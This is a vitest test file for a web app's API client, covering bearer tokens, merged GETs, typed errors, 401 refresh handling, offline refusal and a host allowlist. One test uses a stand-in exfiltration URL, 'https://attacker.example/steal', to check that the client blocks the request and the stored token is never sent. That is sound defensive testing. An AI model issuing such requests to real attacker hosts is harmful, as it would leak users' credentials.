// The API client against a real local server: bearer token, merged GETs, typed errors, and docs/product.md §8's 401 handling.
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it, vi } from "vitest";
import { startTestApi, type TestApi } from "../test-api-server";
import {
  ApiError,
  apiGet,
  apiPost,
  apiUpload,
  OFFLINE_CODE,
  setRequestObserver,
  setSessionHandlers,
} from "./api-client";
import { i18n } from "./i18n";
import { errorText } from "./messages";

let api: TestApi;
const events: string[] = [];
let refreshWorks = false;

beforeAll(async () => {
  api = await startTestApi({
    "GET /api/slow": () => ({
      status: 200,
      body: { value: api.count("GET /api/slow") },
      delayMs: 50,
    }),
    "GET /api/whoami": (request) => ({
      status: 200,
      body: { authorization: request.authorization },
    }),
    "POST /api/echo": (request) => ({
      status: 200,
      body: { body: request.body, contentType: request.contentType },
    }),
    "POST /api/auth/register": () => ({
      status: 409,
      body: {
        error: {
          code: "conflict",
          message: "This username is taken",
          fields: { username: "This username is taken" },
          fieldCodes: { username: { code: "username_taken", params: {} } },
        },
      },
    }),
    "POST /api/auth/login": () => ({
      status: 401,
      body: { error: { code: "unauthorized", message: "Invalid email or password" } },
    }),
    "POST /api/broken": () => ({ status: 500 }),
    "GET /api/limited": () => ({
      status: 429,
      body: {
        error: { code: "rate_limited", message: "Rate limit exceeded: 10 calls per minute" },
        retryAfter: 42,
      },
    }),
    "GET /api/secret": (request) =>
      request.authorization === "Bearer fresh"
        ? { status: 200, body: { secret: 42 } }
        : {
            status: 401,
            body: { error: { code: "unauthorized", message: "Authentication required" } },
          },
  });
});

afterAll(() => api.close());

beforeEach(() => {
  events.length = 0;
  refreshWorks = false;
  api.requests.length = 0;
  setSessionHandlers({
    refresh: async () => {
      events.push("refresh");
      if (refreshWorks) window.localStorage.setItem("token", "fresh");
      return refreshWorks;
    },
    sessionLost: () => {
      events.push("sessionLost");
      window.localStorage.removeItem("token");
    },
  });
});

afterEach(() => setSessionHandlers({ refresh: async () => false, sessionLost: () => {} }));

describe("api client", () => {
  it("sends the stored token as a bearer header and bodies as JSON", async () => {
    window.localStorage.setItem("token", "abc");
    expect(await apiGet("/whoami")).toEqual({ authorization: "Bearer abc" });
    expect(await apiPost("/echo", { a: 1 })).toEqual({
      body: { a: 1 },
      contentType: "application/json",
    });
  });

  it("merges identical GETs in flight into one request", async () => {
    const results = await Promise.all([apiGet("/slow"), apiGet("/slow"), apiGet("/slow")]);
    expect(api.count("GET /api/slow")).toBe(1);
    expect(results).toEqual([{ value: 1 }, { value: 1 }, { value: 1 }]);
    // Once settled, the next GET is a new request.
    await apiGet("/slow");
    expect(api.count("GET /api/slow")).toBe(2);
  });

  it("lets one caller stop waiting without cancelling the merged request for the others", async () => {
    const controller = new AbortController();
    const first = apiGet("/slow", controller.signal);
    const second = apiGet("/slow");
    controller.abort();
    await expect(first).rejects.toBeDefined();
    expect(await second).toEqual({ value: 1 });
  });

  it("throws typed errors carrying the message, field codes and retryAfter", async () => {
    const conflict = await apiPost("/auth/register", {}).catch((error: unknown) => error);
    expect(conflict).toBeInstanceOf(ApiError);
    expect(conflict).toMatchObject({
      status: 409,
      code: "conflict",
      message: "This username is taken",
      fields: { username: { code: "username_taken", params: {} } },
    });
    const limited = await apiGet("/limited").catch((error: unknown) => error);
    expect(limited).toMatchObject({ status: 429, retryAfter: 42 });
  });

  it("uses the default text of docs/product.md §8 when the server gives none", async () => {
    const error = await apiPost("/broken", {}, { fallback: "login" }).catch(
      (failure: unknown) => failure,
    );
    expect(error).toMatchObject({ status: 500, message: "Login failed" });
  });

  it("on a 401 refreshes once and retries with the new token", async () => {
    window.localStorage.setItem("token", "stale");
    refreshWorks = true;
    expect(await apiGet("/secret")).toEqual({ secret: 42 });
    expect(events).toEqual(["refresh"]);
    expect(api.requests.map((r) => r.authorization)).toEqual(["Bearer stale", "Bearer fresh"]);
  });

  it("on a 401 the refresh cannot cure, ends the session", async () => {
    window.localStorage.setItem("token", "stale");
    await expect(apiGet("/secret")).rejects.toMatchObject({ status: 401 });
    expect(events).toEqual(["refresh", "sessionLost"]);
    expect(window.localStorage.getItem("token")).toBeNull();
  });

  it("leaves a 401 from a credential call (wrong password) alone", async () => {
    await expect(apiPost("/auth/login", {})).rejects.toMatchObject({
      status: 401,
      message: "Invalid email or password",
    });
    expect(events).toEqual([]);
  });

  it("refuses a full URL to a host outside the allowlist before anything is sent, and reports it", async () => {
    const blocked: string[] = [];
    setRequestObserver({ completed: () => {}, blocked: (url) => blocked.push(url) });
    try {
      window.localStorage.setItem("token", "abc");
      const sent = api.requests.length;
      const error = await apiGet("https://attacker.example/steal").catch(
        (caught: unknown) => caught,
      );
      expect(error).toBeInstanceOf(ApiError);
      expect(error).toMatchObject({
        code: "request_blocked",
        message: "Unauthorized request blocked",
      });
      expect(blocked).toEqual(["https://attacker.example/steal"]);
      expect(api.requests.length).toBe(sent);
    } finally {
      setRequestObserver({ completed: () => {}, blocked: () => {} });
    }
  });

  it("refuses every call at once while the browser is offline, with a message the interface translates", async () => {
    const offline = vi.spyOn(navigator, "onLine", "get").mockReturnValue(false);
    try {
      const sent = api.requests.length;
      const refusals = await Promise.all([
        apiPost("/echo", { text: "hi" }).catch((caught: unknown) => caught),
        apiGet("/whoami").catch((caught: unknown) => caught),
        apiUpload("/echo", new File(["x"], "x.txt")).catch((caught: unknown) => caught),
      ]);
      for (const error of refusals) {
        expect(error).toBeInstanceOf(ApiError);
        expect(error).toMatchObject({ status: 0, code: OFFLINE_CODE });
      }
      expect(api.requests.length).toBe(sent);
      const refusal = refusals[0];
      expect(errorText(i18n.getFixedT("en"), refusal)).toBe(
        "You're offline. This needs an internet connection; try again once you're back online.",
      );
      expect(errorText(i18n.getFixedT("he"), refusal)).toBe(
        "אין חיבור לאינטרנט. הפעולה הזו דורשת חיבור; נסו שוב כשהחיבור יחזור.",
      );
    } finally {
      offline.mockRestore();
    }
    expect(await apiPost("/echo", { text: "hi" })).toMatchObject({ body: { text: "hi" } });
  });
});
